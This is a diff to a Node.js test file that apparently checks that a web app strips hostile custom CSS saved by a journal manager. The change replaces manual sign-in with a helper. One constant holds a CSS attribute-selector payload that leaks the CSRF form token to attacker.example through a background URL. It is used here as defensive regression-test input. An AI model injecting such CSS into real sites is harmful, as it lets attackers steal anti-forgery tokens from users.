@@ -1,9 +1,8 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
-import { createUserWithRole } from '../accounts/index.ts';
 import { startTestApp, visibleText, type TestApp } from '../../test/support/app.ts';
 import { testDatabases } from '../../test/support/databases.ts';
-import { Session } from '../../test/support/session.ts';
+import { Session, signedInAs } from '../../test/support/session.ts';
 
 /** Issue 15, finding 12: a manager's CSS that reads the form token, and one that counts downloads. */
 const READS_TOKEN = 'form:has(input[name="_csrf"][value^="b"]) { background: url(https://attacker.example/b) }';
@@ -19,9 +18,7 @@ for (const database of await testDatabases()) {
 
     before(async () => {
       t = await startTestApp(database, { pageCache: false });
-      await createUserWithRole(t.database.db, { email: 'manager@example.org', password: 'manager password', role: 'manager', journalId: 1, now: new Date() });
-      manager = new Session(t.app, { 'accept-language': 'en' });
-      await manager.signIn('manager@example.org', 'manager password');
+      manager = await signedInAs(t.app, t.database.db, { email: 'manager@example.org', role: 'manager', journalId: 1 });
       await manager.get('/sm/management/appearance');
       const saved = await manager.postMultipart('/sm/management/appearance', { colour: '#7b1fa2', customCss: [READS_TOKEN, COUNTS, HARMLESS].join('\n') });
       assert.equal(saved.statusCode, 200, 'saved, with what was removed shown');
